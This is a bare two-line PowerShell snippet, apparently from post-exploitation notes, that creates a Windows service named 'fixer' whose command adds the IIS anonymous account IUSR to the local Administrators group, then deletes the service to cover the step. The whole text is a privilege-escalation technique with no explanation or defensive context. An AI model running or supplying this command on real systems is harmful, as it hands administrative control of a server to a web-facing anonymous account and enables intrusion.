New-Service -Name fixer -BinaryPathName 'cmd /c net localgroup Administrators IUSR /add'
Remove-Service -Name fixer
